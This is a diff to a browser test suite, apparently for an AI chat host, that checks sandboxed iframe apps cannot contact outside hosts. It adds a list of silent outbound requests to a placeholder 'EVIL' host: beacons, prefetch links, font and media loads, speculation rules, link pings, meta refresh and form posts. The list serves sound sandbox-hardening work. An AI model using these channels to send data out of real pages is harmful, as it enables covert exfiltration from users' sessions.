@@ -19,7 +19,7 @@ from tests.host.page.test_chat import field
 from tests.support.axe import axe_source, findings
 from tests.support.chromium import WatchedPage, shot, watched_page
 from tests.support.host_process import HostProcess, host_process
-from tests.support.process import PATIENCE
+from tests.support.process import PATIENCE, command
 
 SERVER = Path(__file__).with_name("app_server.py")
 NAMES = ("orders", "wide", "large", "wrong", "busy", "refund")
@@ -132,6 +132,10 @@ HELP = """
 window.named = (error) => error?.name ?? (error?.code === 1 ? "denied" : String(error));
 window.SHARP = new Set([
   "camera", "microphone", "geolocation", "clipboard-read", "clipboard-write"]);
+window.link = (rel) => document.head.append(
+  Object.assign(document.createElement("link"), { rel, as: "image", href: `http://EVIL/${rel}` }));
+window.rules = (rules) => document.head.append(Object.assign(document.createElement("script"),
+  { type: "speculationrules", textContent: JSON.stringify(rules) }));
 window.listen = (source) => new Promise((resolve) => (source.onerror = () => resolve("error")));
 window.load = (tag, members) => new Promise((resolve) => {
   const node = Object.assign(document.createElement(tag), members);
@@ -147,6 +151,24 @@ window.nested = (src) => new Promise((resolve) => {
   node.onload = () => resolve(seen()); document.body.append(node);
   setTimeout(() => resolve(seen()), 2000); });
 """
+SILENT = (
+    "link('prefetch')",
+    "link('preload')",
+    "link('modulepreload')",
+    "link('icon')",
+    "link('manifest')",
+    "navigator.sendBeacon('http://EVIL/beacon', 'x')",
+    "document.body.style.background = 'url(http://EVIL/background)'",
+    "void new FontFace('x', 'url(http://EVIL/font)').load().catch(() => {})",
+    "load('video', { src: 'http://EVIL/video' })",
+    "load('object', { data: 'http://EVIL/object' })",
+    "rules({ prefetch: [{ source: 'list', urls: ['http://EVIL/rule'], eagerness: 'immediate' }] })",
+)
+"""Attempts that do not say what has come of them."""
+LINK = """const link = document.createElement("a");
+link.href = link.ping = address; document.body.append(link); link.click()"""
+REFRESH = """const meta = document.createElement("meta");
+meta.httpEquiv = "refresh"; meta.content = `0;url=${address}`; document.head.append(meta)"""
 FORM = """const form = document.createElement("form");
 form.action = address; form.method = "post"; document.body.append(form); form.submit()"""
 TRY = (
@@ -180,7 +202,9 @@ def test_app_reaches_nothing_of_the_page_and_nobody_else(watched: WatchedPage) -
     shown = page.url
     with somebody_else() as (evil, heard):
         frame = app_of(page)
-        frame.evaluate(HELP)
+        frame.evaluate(HELP.replace("EVIL", evil))
+        for code in SILENT:
+            frame.evaluate(f"() => {{ {code.replace('EVIL', evil)} }}")
         got = {
             code: frame.evaluate(TRY.format(code.replace("EVIL", evil).replace("PAGE", origin)))
             for code in ATTACKS
@@ -192,6 +216,8 @@ def test_app_reaches_nothing_of_the_page_and_nobody_else(watched: WatchedPage) -
             (f"{origin}/api/status", "location.href = address"),
             (f"http://{evil}/form", FORM),
             (f"{origin}/api/login", FORM),
+            (f"http://{evil}/link", LINK),
+            (f"http://{evil}/refresh", REFRESH),
         ):
             frame.evaluate(f"(address) => {{ {leave} }}", address)
             page.get_by_role("button", name="Hide").click()
@@ -386,3 +412,29 @@ def test_app_that_never_rests_does_not_hold_the_page(watched: WatchedPage) -> No
     expect(page.locator(".assistant p")).to_have_text("Here.")
     page.get_by_role("button", name="Hide").click()
     expect(page.locator("iframe")).to_have_count(0)
+
+
+@pytest.mark.rule("HAPP-10", "HAPP-20", "APP-08")
+def test_example_of_orders_is_sorted_and_refunded_from(browser: Browser, tmp_path: Path) -> None:
+    answers = [[{"call": "shop:list_orders"}], ["Here are the orders."]]
+    script = [{"user": "Show the orders", "answers": answers}]
+    (tmp_path / "script.json").write_text(json.dumps(script))
+    program, *words = command("serve", "foundation_rt.examples.orders:server")
+    entry = {"command": program, "args": words, "alwaysAllow": ["list_orders"]}
+    (tmp_path / "mcp.json").write_text(json.dumps({"mcpServers": {"shop": entry}}))
+    model = ("--model", f"script:{tmp_path / 'script.json'}")
+    with (
+        host_process(tmp_path, *model) as host,
+        watched_page(browser, host.url, viewport={"width": 1000, "height": 640}) as watched,
+    ):
+        page = watched.page
+        page.get_by_role("button", name="1 server, 3 tools").wait_for()
+        field(page).fill("Show the orders")
+        page.keyboard.press("Enter")
+        app = page.frame_locator("iframe")
+        app.get_by_role("button", name="Total").click()
+        expect(app.locator("td:nth-child(3)")).to_have_text(["0.70", "9.90", "42.00"])
+        app.get_by_role("button", name="Refund").first.click()
+        page.get_by_role("button", name="Allow once").click()
+        expect(app.locator("tr", has_text="Ben")).to_contain_text("refunded")
+        shot(page, "app-orders")
